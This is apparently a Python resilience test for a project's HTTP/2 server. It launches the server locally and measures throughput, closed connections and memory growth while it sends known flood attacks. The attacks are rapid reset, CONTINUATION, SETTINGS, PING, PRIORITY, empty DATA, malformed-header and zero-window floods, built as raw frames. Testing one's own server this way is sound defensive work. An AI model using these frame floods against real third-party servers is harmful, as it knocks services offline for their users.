#!/usr/bin/env python3
"""Floods a server with frames of HTTP/2, and measures what other connections get meanwhile.

    scripts/http2-floods.py .build/release/duet [SECONDS]

The script starts `duet serve` on a free port of 127.0.0.1. For each kind of flood, one connection after another sends
frames as fast as the server accepts them, while h2load measures the rate of eight other connections. The table has the
rate with the flood, relative to the rate without it, the number of connections that the server has ended, and the
growth of the memory of the server. The machine needs a processor for the flood and one for h2load, because otherwise
they take the time of the server.
"""
import re
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9


def frame(kind, flags=0, stream=0, content=b""):
    """A frame (RFC 9113, section 4.1)."""
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def literal(name, value):
    """A field without compression (RFC 7541, section 6.2.2), of at most 126 bytes."""
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


def fields(method=b"GET", path=b"/health/live"):
    pairs = [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", b"localhost")]
    return b"".join(literal(name, value) for name, value in pairs)


def request(stream, flags=5, **parts):
    return frame(HEADERS, flags, stream, fields(**parts))


def rapid_reset(number):
    stream = 2 * number + 1
    return request(stream) + frame(RESET, 0, stream, struct.pack(">I", 8))


def continuation(number):
    return frame(HEADERS, 0, 1, fields()) if number == 0 else frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100))


def empty_data(number):
    return request(1, 4, method=b"POST", path=b"/graphql") if number == 0 else frame(DATA, 0, 1)


def zero_window(number):
    return request(2 * number + 1, path=b"/employees?first=1000") if number < 100 else b""


FLOODS = {
    "rapid reset": rapid_reset,
    "CONTINUATION": continuation,
    "SETTINGS": lambda number: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)),
    "PING": lambda number: frame(PING, 0, 0, b"duet-123"),
    "PRIORITY": lambda number: frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 1)),
    "empty DATA": empty_data,
    "malformed requests": lambda number: frame(HEADERS, 5, 2 * number + 1, literal(b"Upper", b"1")),
    "zero window": zero_window,
}


def flood(port, make, ended, until):
    while time.time() < until:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
                window = struct.pack(">HI", 4, 0) if make is zero_window else b""
                connection.sendall(PREFACE + frame(SETTINGS, 0, 0, window))
                number = 0
                while time.time() < until:
                    frames = b"".join(make(number + offset) for offset in range(100))
                    number += 100
                    if frames:
                        connection.sendall(frames)
                    else:
                        time.sleep(until - time.time() if until > time.time() else 0)
        except OSError:
            ended[0] += 1


def rate(port, seconds):
    command = ["h2load", "-t1", "-c8", "-m10", f"-D{seconds}", f"http://127.0.0.1:{port}/employees/10004"]
    output = subprocess.run(command, capture_output=True, text=True, check=True).stdout
    return float(re.search(r"([0-9.]+) req/s", output).group(1))


def resident(process):
    with open(f"/proc/{process}/status") as status:
        return int(re.search(r"VmRSS:\s+(\d+)", status.read()).group(1)) // 1024


def main():
    program, seconds = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 5
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    with tempfile.TemporaryDirectory() as folder:
        server = subprocess.Popen(
            [program, "serve", "--port", str(port), "--http2-plaintext", "--log-level", "warning"], cwd=folder)
        try:
            while True:
                try:
                    urllib.request.urlopen(f"http://127.0.0.1:{port}/health/ready").close()
                    break
                except OSError:
                    if server.poll() is not None:
                        raise
                    time.sleep(0.1)
            rate(port, 2)
            print("| flood | rate | connections ended | memory, MiB |\n|---|---|---|---|")
            for name, make in FLOODS.items():
                calm, memory, ended = rate(port, seconds), resident(server.pid), [0]
                attack = threading.Thread(target=flood, args=(port, make, ended, time.time() + seconds + 1))
                attack.start()
                flooded, grown = rate(port, seconds), resident(server.pid) - memory
                attack.join()
                print(f"| {name} | {flooded / calm:.2f} | {ended[0]} | {memory} + {grown} |", flush=True)
        finally:
            server.terminate()
            server.wait()


main()
